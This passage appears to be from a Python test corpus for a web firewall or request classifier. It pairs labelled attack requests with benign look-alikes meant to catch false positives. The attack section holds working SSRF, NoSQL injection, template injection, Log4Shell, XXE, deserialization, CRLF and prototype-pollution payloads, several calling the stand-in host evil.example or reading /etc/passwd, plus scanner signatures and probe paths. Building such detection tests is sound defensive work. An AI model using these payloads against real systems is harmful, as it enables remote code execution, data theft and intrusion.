        get(s, "/api/v2/fetch", {"url": "http://LOCALHOST:8080/"}),
        get(s, "/api/v2/fetch", {"url": "http://0.0.0.0:9200/_cat/indices"}),
        get(s, "/api/v2/fetch", {"url": "http://metadata/computeMetadata/v1/"}),
        get(s, "/api/v2/fetch", {"url": "http://instance-data/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "http://169.254.169.254/metadata/instance?api-version=2021-02-01"}),
        get(s, "/api/v2/fetch", {"url": "https://evil.example/redirect?to=http://169.254.169.254/latest/meta-data/"}),
        get(s, "/api/v2/fetch", {"url": "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/"}),
        get(s, "/api/v2/fetch", {"url": "http://127.1.1.1:80\\@evil.example/"}),
        get(s, "/api/v2/fetch", {"url": "http://0x7f.1/"}),
        get(s, "/api/v2/fetch", {"url": "http://127.0.0.1.sslip.io/"}),
        get(s, "/api/v2/fetch", {"url": "http://[0000::1]/"}),
        get(s, "/api/v2/fetch", {"url": "http://\u217cocalhost/"}),
        get(s, "/api/v2/fetch", {"url": "http://0xA9FEA9FE/latest/"}),
        get(s, "/api/v2/fetch", {"url": "http://0xa9.0xfe.0xa9.0xfe/"}),
        get(s, "/api/v2/fetch", {"url": "http://169.254.43518/"}),
        get(s, "/api/v2/fetch", {"url": "http://metadata.google.internal./computeMetadata/v1/"}),
        get(s, "/api/v2/fetch", raw="url=http:%2F%2F127.0.0.1%2Fadmin"),
        js(s, "/api/v2/webhooks", {"url": "http://internal-api.default.svc.cluster.local/admin"}),
        js(s, "/api/v2/webhooks", {"url": "http://172.16.0.5:8080/"}),
    ]

    # --- NoSQL injection --------------------------------------------------------------------------
    s = "nosqli"
    r += [
        js(s, "/api/v2/login", {"login": {"email": "admin@example.com", "password": {"$nin": ["a"]}}}),
        get(s, "/api/v2/users", raw="user[$regex]=^adm&pass[$ne]=1"),
        js(s, "/api/v2/search", {"filter": {"$where": "function(){return true}"}}),
        js(s, "/api/v2/login", {"username": {"$regex": "^a"}, "password": {"$exists": True}}),
        get(s, "/api/v2/users", {"q": "';return true;var a='"}),
        js(s, "/api/v2/login", [{"email": {"$ne": None}, "password": {"$ne": None}}]),
        get(s, "/api/v2/users", {"name": "' || '1'=='1"}),
        js(s, "/api/v2/login", {"$or": [{"username": "admin"}, {"username": {"$ne": ""}}], "password": {"$ne": ""}}),
        form(s, "/api/v2/login", {"username[$exists]": "true", "password[$exists]": "true"}),
        js(s, "/api/v2/search", {"query": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}}),
        get(s, "/api/v2/products", {"filter": '{"price":{"$gt":0},"$where":"sleep(100)"}'}),
        raw_json(s, "/api/v2/login", '{"username": "admin", "password": {"\\u0024ne": "x"}}'),
        form(s, "/api/v2/login", {"login[$regex]": "a.*", "password[$ne]": ""}),
        js(s, "/api/v2/login", {"username": "admin", "password": {"$in": [None, "", 0]}}),
        get(s, "/api/v2/users", raw="search[$where]=return%20true"),
        js(s, "/api/v2/users/lookup", {"email": {"$gt": ""}}),
        js(s, "/api/v2/login", {"username": {"$eq": "admin"}, "password": {"$regex": ".*"}}),
        form(s, "/api/v2/login", {"username": "admin", "password[$regex]": ".*"}),
        js(s, "/api/v2/users", {"filter": {"role": {"$ne": "user"}}}),
        get(s, "/api/v2/users", raw="user[$nin][]=x"),
    ]

    # --- server-side template injection ---------------------------------------------------------
    s = "ssti"
    r += [
        get(s, "/api/v2/preview", {"name": "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"}),
        js(s, "/api/v2/preview", {"subject": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
        get(s, "/api/v2/preview", {"name": "${{7*7}}"}),
        get(s, "/api/v2/preview", {"name": "#{7*7}"}),
        form(s, "/api/v2/preview", {"tpl": '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }'}),
        js(s, "/api/v2/preview", {"tpl": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"}),
        get(s, "/api/v2/preview", {"name": "*{T(java.lang.Runtime).getRuntime().exec('id')}"}),
        get(s, "/api/v2/preview", {"name": "{{['id']|filter('system')}}"}),
        form(s, "/api/v2/preview", {"tpl": "{php}echo `id`;{/php}"}),
        form(s, "/api/v2/preview", {"tpl": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"}),
        get(s, "/api/v2/preview", {"name": "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"}),
        js(s, "/api/v2/preview", {"tpl": "<%= `ls /` %>"}),
        js(s, "/api/v2/campaigns", nest(["campaign", "email", "template", "subject"], "Hi {{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}")),
        get(s, "/api/v2/preview", {"name": "@(1+2)@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c calc\"); }"}),
        get(s, "/api/v2/preview", {"name": "{{7*'7'}}"}),
        hdr(s, {"X-Api-Version": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}),
        get(s, "/api/v2/preview", {"name": "{{lipsum.__globals__.os.popen('id').read()}}"}),
        get(s, "/api/v2/preview", {"name": "{% import os %}{{os.system('id')}}"}),
        get(s, "/api/v2/preview", {"name": '${"freemarker.template.utility.Execute"?new()("id")}'}),
        get(s, "/api/v2/preview", {"name": "#{T(java.lang.Runtime).getRuntime().exec('calc')}"}),
        get(s, "/api/v2/preview", {"name": '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'}),
        get(s, "/api/v2/preview", {"name": "{system('id')}"}),
        get(s, "/api/v2/preview", {"name": '${self.module.cache.util.os.system("id")}'}),
        get(s, "/api/v2/preview", {"name": "<%= 7*7 %>"}),
        get(s, "/api/v2/preview", {"name": "{{ namespace.__init__.__globals__.os.popen('id').read() }}"}),
        get(s, "/api/v2/preview", {"name": "{{config}}"}),
        get(s, "/api/v2/preview", {"name": "{{settings.SECRET_KEY}}"}),
        get(s, "/api/v2/preview", {"name": "<%= File.open('/etc/passwd').read %>"}),
        get(s, "/api/v2/preview", {"name": "{{request.__class__}}"}),
        get(s, "/api/v2/preview", {"name": "${{<%[%'\"}}%\\."}),
    ]

    # --- Log4Shell ------------------------------------------------------------------------------
    s = "log4shell"
    r += [
        hdr(s, {"User-Agent": "${jndi:ldap://${env:USER}.evil.example/a}"}),
        hdr(s, {"X-Api-Version": "${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://evil.example/a}"}),
        get(s, "/api/v2/search", {"q": "${j${::-n}di:ldap://evil.example/a}"}),
        hdr(s, {"Referer": "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}"}),
        hdr(s, {"X-Forwarded-For": "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}"}),
        get(s, "/api/v2/search", raw="q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
        hdr(s, {"X-Forwarded-For": "${jndi:rmi://evil.example:1099/obj}"}),
        hdr(s, {"Referer": "${jndi:ldap://127.0.0.1#evil.example:1389/a}"}),
        hdr(s, {"Cookie": "session=${${::-j}ndi:ldap://evil.example/a}"}),
        hdr(s, {"Authorization": "Bearer ${jndi:ldap://evil.example/a}"}),
        hdr(s, {"X-Auth-Token": "${jndi:ldaps://evil.example/a}"}),
        get(s, "/api/v2/search", {"q": "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}"}),
        js(s, "/api/v2/events", {"client": {"agent": "${jndi:dns://evil.example/x}"}}),
        raw_json(s, "/api/v2/events", '{"client": {"agent": "\\u0024{jndi:ldap://evil.example/a}"}}'),
        hdr(s, {"X-Api-Version": "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}"}),
        form(s, "/api/v2/login", {"username": "${jndi:ldap://evil.example/u}", "password": "x"}),
        get(s, "/api/v2/search", {"q": "${jndi:ldap://evil.example:1389/Basic/Command/Base64/aWQ=}"}),
        hdr(s, {"X-Api-Version": "${${lower:jndi}:${lower:rmi}://evil.example/a}"}),
        Req(s, "GET", "/api/v2/%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", {}),
        hdr(s, {"Authorization": "Basic ${jndi:ldap://evil.example/a}"}),
        get(s, "/api/v2/search", {"q": "${jndi:ldap://${hostName}.evil.example/a}"}),
        hdr(s, {"X-Api-Version": "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}"}),
        get(s, "/api/v2/search", raw="q=%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2F%65%76%69%6C%2E%65%78%61%6D%70%6C%65%2F%61%7D"),
        js(s, "/api/v2/events", {"${jndi:ldap://evil.example/k}": 1}),
        hdr(s, {"X-Forwarded-Host": "${jndi:ldap://evil.example/h}"}),
        hdr(s, {"Content-Type": "application/json; ${jndi:ldap://evil.example/ct}"}),
    ]

    # --- XXE ------------------------------------------------------------------------------------
    s = "xxe"
    svg_xxe = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    r += [
        multipart(s, "/api/v2/uploads", [("file", svg_xxe, "logo.svg", "image/svg+xml")]),
        xml(s, "/api/v2/import", '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://evil.example/evil.dtd">%dtd;]><data>&send;</data>'),
        xml(s, "/api/v2/import", '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'),
        xml(s, "/soap/OrderService", '<?xml version="1.0"?><!DOCTYPE foo PUBLIC "-//x//EN" "http://evil.example/x.dtd"><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>', "text/xml"),
        js(s, "/api/v2/import", {"format": "xml", "data": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        Req(s, "POST", "/api/v2/import", {"Content-Type": "application/xml"},
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-16")),
        form(s, "/api/v2/import", {"xml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/">]><r>&x;</r>'}),
        xml(s, "/api/v2/import", '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><foo>&xxe;</foo>'),
        xml(s, "/soap/OrderService", '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', "application/soap+xml"),
        xml(s, "/api/v2/import", '\ufeff  <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        multipart(s, "/api/v2/import", [("feed", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>', "feed.xml", "text/xml")]),
        js(s, "/api/v2/import", {"xml": '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/a.dtd"> %xxe;]><foo/>'}),
        xml(s, "/api/v2/import", '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        xml(s, "/soap/OrderService", '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x></soap:Body></soap:Envelope>', "text/xml"),
    ]

    # --- deserialization ------------------------------------------------------------------------
    s = "deserialization"
    node_ser = json.dumps({"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"})
    r += [
        hdr(s, {"Cookie": "cart=" + b64('O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}')}),
        js(s, "/api/v2/session", {"state": "aced0005737200116a6176612e7574696c2e486173684d6170"}),
        form(s, "/api/v2/restore", {"blob": "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="}),
        form(s, "/api/v2/config", {"yaml": '!!python/object/apply:os.system ["id"]'}),
        js(s, "/api/v2/config", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start",
                                 "MethodParameters": {"$type": "System.Collections.ArrayList", "$values": ["cmd", "/c calc"]}}),
        js(s, "/api/v2/config", ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil.example/x", "autoCommit": True}]),
        form(s, "/api/v2/config", {"yaml": '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]'}),
        hdr(s, {"Cookie": "profile=" + b64(node_ser)}),
        xml(s, "/api/v2/import", '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'),
        get(s, "/api/v2/session", {"data": 'a:1:{i:0;O:17:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}}'}),
        form(s, "/api/v2/config", {"yaml": "--- !ruby/object:Gem::Installer\ni: x\n"}),
        Req(s, "POST", "/api/v2/restore", {"Content-Type": "application/octet-stream"}, b"cos\nsystem\n(S'id'\ntR."),
        js(s, "/api/v2/config", {"@type": "com.alibaba.fastjson.JSONObject", "x": {"@type": "java.net.Inet4Address", "val": "evil.example"}}),
        form(s, "/api/v2/config", {"yaml": '!!python/object/new:subprocess.Popen [["id"]]'}),
        get(s, "/api/v2/session", {"data": 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}'}),
        hdr(s, {"X-Session": "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"}),
        form(s, "/api/v2/config", {"yaml": "!!python/object/apply:subprocess.check_output [['id']]"}),
        js(s, "/api/v2/restore", {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}),
        js(s, "/api/v2/restore", {"py/object": "subprocess.Popen", "py/newargs": [["id"]]}),
    ]

    # --- CRLF / header injection ----------------------------------------------------------------
    s = "crlf"
    r += [
        get(s, "/api/v2/redirect", raw="to=%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true"),
        get(s, "/api/v2/i18n", raw="lang=en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK"),
        get(s, "/api/v2/redirect", raw="next=/%0d%0aLocation:%20https://evil.example"),
        js(s, "/api/v2/exports", {"filename": "report.pdf\r\nContent-Disposition: attachment; filename=evil.exe"}),
        get(s, "/api/v2/redirect", raw="to=%0d%0a%09X-Injected:%20true"),
        form(s, "/api/v2/contact", {"email": "victim@example.com\nBcc: spam@evil.example", "msg": "hi"}),
        get(s, "/api/v2/redirect", raw="to=%23%0dSet-Cookie:x=1"),
        get(s, "/api/v2/redirect", raw="to=%250d%250aSet-Cookie:%20x=1"),
        Req(s, "GET", "/api/v2/redirect/%0d%0aSet-Cookie:%20sid=evil", {}),
        get(s, "/api/v2/redirect", raw="to=%u000d%u000aSet-Cookie:%20x=1"),
        js(s, "/api/v2/redirects", {"target": "/home\r\nLocation: https://evil.example/"}),
        form(s, "/api/v2/contact", {"subject": "Hello\r\nCc: victim2@example.com", "msg": "hi"}),
        get(s, "/api/v2/i18n", raw="lang=%0d%0aX-XSS-Protection:0"),
        get(s, "/api/v2/redirect", raw="to=%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        get(s, "/api/v2/redirect", raw="to=%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D%E5%98%BCsvg/onload=alert(1)%E5%98%BE"),
        get(s, "/api/v2/jsonp", raw="callback=x%0d%0aX-Foo:bar"),
    ]

    # --- prototype pollution and Node code injection --------------------------------------------
    s = "node"
    r += [
        js(s, "/api/v2/profile", {"__proto__": {"isAdmin": True}}, "PATCH"),
        js(s, "/api/v2/profile", {"constructor": {"prototype": {"isAdmin": True}}}, "PATCH"),
        get(s, "/api/v2/items", raw="__proto__[admin]=1"),
        get(s, "/api/v2/items", raw="constructor[prototype][polluted]=1"),
        get(s, "/api/v2/items", raw="a[__proto__][b]=1"),
        js(s, "/api/v2/settings", nest(["user", "settings", "__proto__"], {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//"})),
        get(s, "/api/v2/calc", {"expr": "require('child_process').execSync('cat /etc/passwd')"}),
        get(s, "/api/v2/calc", {"expr": "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')"}),
        form(s, "/api/v2/settings", {"__proto__[toString]": "x"}),
        get(s, "/api/v2/items", raw="__pro__proto__to__[x]=1"),
        raw_json(s, "/api/v2/profile", '{"__pr\\u006fto__": {"isAdmin": true}}', "PATCH"),
        get(s, "/api/v2/items", raw="constructor.prototype.isAdmin=true"),
        get(s, "/api/v2/items", raw="__proto__.isAdmin=true"),
        js(s, "/api/v2/items", [{"__proto__": {"polluted": "yes"}}]),
        get(s, "/api/v2/render", raw="__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var%20__tmp2"),
        js(s, "/api/v2/settings", {"constructor": {"prototype": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}}),
    ]

    # --- LDAP, PHP and other code injection -----------------------------------------------------
    s = "injection"
    r += [
        get(s, "/api/v2/directory", {"user": "*)(uid=*))(|(uid=*"}),
        form(s, "/api/v2/login", {"username": "admin)(&(password=*))", "password": "x"}),
        get(s, "/api/v2/directory", {"cn": "*)(objectClass=*"}),
        form(s, "/api/v2/comments", {"text": "<?=`id`?>"}),
        get(s, "/api/v2/render", {"page": "data:text/plain,<?php phpinfo();?>"}),
        get(s, "/api/v2/eval", {"code": "${@print(md5(1))}"}),
        js(s, "/api/v2/calc", {"formula": "__import__('os').system('id')"}),
        get(s, "/api/v2/calc", {"expr": "eval(compile('import os;os.system(\"id\")','x','exec'))"}),
        form(s, "/api/v2/export", {"name": "=cmd|' /C calc'!A0"}),
        get(s, "/api/v2/page", {"view": '<!--#exec cmd="ls" -->'}),
    ]

    # --- scanners: their User-Agents, marker headers and probe paths ----------------------------
    s = "scanner"
    for ua in [
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Fuzz Faster U Fool v2.1.0-dev",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Acunetix-WVS",
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "commix/v3.9-stable (https://commixproject.com)",
        "Arachni/v1.5.1",
        "feroxbuster/2.10.1",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)",
        "Wapiti/3.1.8 (wapiti-scanner.github.io)",
        "Mozilla/5.0 (compatible; Netsparker)",
        "WhatWeb/0.5.5",
        "Mozilla/4.0 (Hydra)",
        "Mozilla/5.0 (compatible; Nessus)",
        "Mozilla/5.0 (compatible; Nuclei)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 dirsearch",
        "Mozilla/5.0 (compatible; ffuf)",
        "xsser/1.8 (https://xsser.03c8.net)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.0 Safari/537.36 ZmEu",
    ]:
        r.append(hdr(s, {"User-Agent": ua}))
    r.append(hdr(s, {"X-Forwarded-Host": "abc123.oast.fun"}))
    r.append(hdr(s, {"Acunetix-Product": "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"}))
    for path in ["/.env", "/.git/HEAD", "/wp-login.php", "/actuator/env", "/phpinfo.php",
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/server-status", "/.aws/credentials",
                 "/backup.sql", "/.DS_Store", "/api/.env.production", "/config/database.yml.bak", "/.svn/entries",
                 "/WEB-INF/web.xml", "/solr/admin/cores", "/manager/html", "/actuator/heapdump", "/.git/config",
                 "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                 "/?XDEBUG_SESSION_START=phpstorm", "/wp-content/debug.log", "/.htpasswd", "/.bash_history",
                 "/web.config", "/elmah.axd", "/trace.axd", "/sftp-config.json", "/.vscode/sftp.json",
                 "/.env.bak", "/admin/.env", "/server-info", "/.git/index", "/.hg/store/00manifest.i",
                 "/storage/logs/laravel.log", "/actuator/gateway/routes", "/_debugbar/open", "/telescope/requests",
                 "/phpmyadmin/index.php", "/HNAP1/", "/boaform/admin/formLogin", "/wls-wsat/CoordinatorPortType",
                 "/jenkins/script", "/cgi-bin/test.cgi"]:
        r.append(Req(s, "GET", path, {}))
    return r


def benign_requests() -> list[Req]:
    b = "benign"
    r: list[Req] = []
    prose = [
        "Can you update the shipping address? It's on 5th & Main, not 'Main St'.",
        "I selected the wrong size; please drop it from my cart and add the 'L' instead.",
        "Where's my order? It's been 2 weeks -- no update since Tuesday.",
        "The union rep said we'd get a 3% raise or better.",
        "Delete my account and all data from your systems, per GDPR art. 17.",
        "Select all that apply: (a) email (b) SMS (c) none",
        "We'll order by Friday if the quote is < $500.",
        "Please don't sleep on this -- we need the fix by 5pm!",
        "Is 'null' a valid last name? My friend's surname is Null.",
        "Between 10 and 20 units, ideally; 1 or 2 pallets.",
        "O'Reilly & Sons -- Est. 1921",
        "She said \"hi\" and 'bye' and then left; weird.",
        "\"Best of\" compilation (2003) -- remastered",
        "It's a 10/10 -- would 'buy' again :)",
        "Order #4521: 2x 'Classic' mug, 1x \"Deluxe\" teapot",
        "I tried to insert the card but the reader said 'declined' -- twice.",
        "Update: the 'where is my parcel' page shows nothing, and the drop-down is empty.",
        "My name is Robert'); I know, my parents had a sense of humour.",
        "Use the side door (not the front one) -- code is 1234#",
        "Admin said: 'contact support or file a ticket'.",
        "Can I exchange it for a size 10 or 11? Either = fine.",
        "5 stars -- the 'sleep mode' works great; battery lasts 2 days.",
        "Script for the event: intro (5 min), Q&A, wrap-up.",
        "The select box doesn't show 'Other' as an option; please add it",
        "From 1 to 10, I'd say 8 -- price was > expected though.",
    ]
    for i, text in enumerate(prose):
        if i % 3 == 0:
            r.append(js(b, "/api/v2/tickets", {"subject": f"Question #{i}", "body": text, "priority": "normal"}))
        elif i % 3 == 1:
            r.append(form(b, "/api/v2/contact", {"name": "Zoë Ørsted", "email": "zoe@example.dk", "message": text}))
        else:
            r.append(get(b, "/api/v2/search", {"q": text, "page": "2"}))

    snippets = [
        "```sql\nSELECT id, name FROM users WHERE created_at > now() - interval '7 days';\n```\nThis query is slow on 2M rows; any index tips?",
        "I'm calling `subprocess.run([\"ls\", \"-la\"], check=True)` and it raises FileNotFoundError on Windows.",
        "Reduce example:\n```js\nconst total = items.reduce((a, b) => a + b.price, 0);\n```",
        "Loop over files: `for f in *.csv; do wc -l \"$f\"; done`",
        "Commit with `git commit -m \"fix: handle null user\"` then push.",
        "Run it with `docker run -p 8080:80 -v $(pwd):/usr/share/nginx/html nginx`",
        "pin it: `pip install requests==2.31.0` and `npm i lodash@4.17.21`",
        "Check pods with `kubectl get pods -n default -o wide`",
        "When I run `npm install` I get EACCES: permission denied, mkdir '/usr/local/lib/node_modules'",
        "I tried `sudo apt-get update` and it hangs at 'Waiting for headers'",
        "Output of `ls -la`:\ndrwxr-xr-x  2 root root 4096 Dec  1 10:00 .\n-rw-r--r--  1 root root  220 Dec  1 10:00 .profile",
        "My cron is `0 5 * * * /home/deploy/backup.sh >> /var/log/backup.log 2>&1`",
        "Logs in /var/log/app/error.log show 500s after the deploy",
        "Exception in thread \"main\" java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.example.App.main(App.java:14)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
        "Traceback (most recent call last):\n  File \"/app/main.py\", line 10, in <module>\n    import requests\nModuleNotFoundError: No module named 'requests'",
        "In Python: `if user is None or user.name == '': return`",
        "In PHP I use `htmlspecialchars($name, ENT_QUOTES)` before echoing",
        "Template: `Hello {{ name }}, you have {{ count }} new messages`",
        "Our nginx has `location /api/ { proxy_pass http://backend; }`",
        "Regex for emails: ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$",
        "Use `curl -H 'Authorization: Bearer $TOKEN' https://api.example.com/v1/me`",
        "Set `export NODE_ENV=production` before `npm start`",
        "React: `useEffect(() => { fetch('/api/items').then(r => r.json()).then(setItems); }, []);`",
        "The SQL `UPDATE accounts SET plan = 'pro' WHERE id = 42` worked in staging",
        "Powershell: `Get-Date -Format yyyy-MM-dd` returns the wrong year on my box",
    ]
    for i, text in enumerate(snippets):
        if i % 2:
            r.append(js(b, "/api/v2/issues/118/comments", {"body": text, "format": "markdown"}))
        else:
            r.append(js(b, "/api/v2/tickets", {"ticket": {"requester": {"name": "Dev"}, "comment": {"body": text}}}))

    r += [
        js(b, "/api/v2/webhooks", {"url": "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXX", "events": ["order.paid"]}),
        js(b, "/api/v2/profile", {"avatar_url": "https://cdn.example.com/avatars/u/42.png?size=128"}, "PATCH"),
        get(b, "/api/v2/oauth/callback", {"code": "4/0AX4XfWh", "state": "xyz", "redirect_uri": "https://app.example.com/auth/callback"}),
        js(b, "/api/v2/bookmarks", {"url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "title": "Never gonna"}),
        get(b, "/api/v2/proxy/preview", {"url": "https://api.github.com/repos/org/repo/issues?state=open&per_page=50"}),
        js(b, "/api/v2/documents", {"source": "https://s3.amazonaws.com/my-bucket/reports/q3.pdf"}),
        js(b, "/api/v2/bookmarks", {"url": "https://en.wikipedia.org/wiki/SQL_injection", "title": "SQL injection - Wikipedia"}),
        get(b, "/api/v2/places", {"link": "https://maps.google.com/?q=40.7128,-74.0060"}),
        js(b, "/api/v2/feeds", {"feed_url": "http://example.org/feed.xml"}),
        get(b, "/api/v2/login/start", {"next": "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fauth"}),
        js(b, "/api/v2/apps", {"callback_url": "https://partner.example.net/hooks/bastion?secret=abc123&v=2"}),
        get(b, "/api/v2/redirect", {"next": "/dashboard?tab=billing&range=30d"}),
        get(b, "/api/v2/jsonp", {"callback": "jQuery112404_1700000000000", "_": "1700000000001"}),
    ]

    people = ["O'Brien", "Zoë Saldaña", "山田太郎", "José Ñúñez", "Σωκράτης Παπαδόπουλος", "Ægir Þórsson",
              "Łukasz Żółć", "محمد عبد الله", "김민준", "Antonín Dvořák", "D'Angelo-Smith", "Jean-Luc d'Arc"]
    for i, name in enumerate(people):
        email = ["o'connor@example.ie", "first.last+tag@sub.example.co.uk", "yamada@example.jp", "j.nunez@example.es"][i % 4]
        phone = ["+44 20 7946 0958", "(555) 123-4567 ext. 89", "+81-3-1234-5678", "+1 555.010.9999"][i % 4]
        if i % 3 == 0:
            r.append(js(b, "/api/v2/customers", {"name": name, "email": email, "phone": phone}, ascii_only=bool(i % 2)))
        elif i % 3 == 1:
            r.append(form(b, "/api/v2/customers", {"name": name, "email": email, "phone": phone}))
        else:
            r.append(get(b, "/api/v2/customers", {"name": name, "phone": phone}))
        r.append(Req(b, "GET", "/api/v2/authors/" + q(name) + "/books", {}))

    for query in ['"a AND b"', "jacket -leather", "c++", "c# vs java", '"exact phrase" -exclude', "title:report OR author:smith",
                  "price:[10 TO 100]", "node.js || deno", "NOT spam", "foo* bar?", "1/2 inch pipe", "100% cotton",
                  "size>=10", "rock & roll", "mysql union select example", "(apple OR banana) AND NOT cherry", "1=1 meaning",
                  "what does 'or 1' do", "drop shipping", "select comfort mattress", "script writing course",
                  "sleep(5) in python", "/etc/hosts format", "../ in a path"]:
        r.append(get(b, "/api/v2/search", {"q": query, "lang": "en"}))

    r += [
        js(b, "/api/v2/schemas", {"$schema": "http://json-schema.org/draft-07/schema#", "$id": "https://example.com/person.schema.json",
                                 "type": "object", "properties": {"address": {"$ref": "#/definitions/address"}, "age": {"type": "integer", "minimum": 0}},
                                 "$comment": "v2 adds address"}),
        js(b, "/api/v2/openapi", {"openapi": "3.0.3", "paths": {"/users/{id}": {"get": {"parameters": [{"$ref": "#/components/parameters/id"}]}}}}),
        js(b, "/api/v2/graph/users", {"@odata.type": "#microsoft.graph.user", "displayName": "Adele Vance", "mailNickname": "AdeleV"}),
        js(b, "/api/v2/search", {"query": {"bool": {"must": [{"match": {"title": "drop table"}}], "filter": [{"range": {"price": {"gte": 10}}}]}}}),
        js(b, "/api/v2/users/42", [{"op": "replace", "path": "/email", "value": "new@example.com"}, {"op": "remove", "path": "/items/0"}], "PATCH"),
        form(b, "/api/v2/charges", {"amount": "1999", "currency": "usd", "metadata[order_id]": "6735", "description": "Order #6735 -- 'Gift'"}),
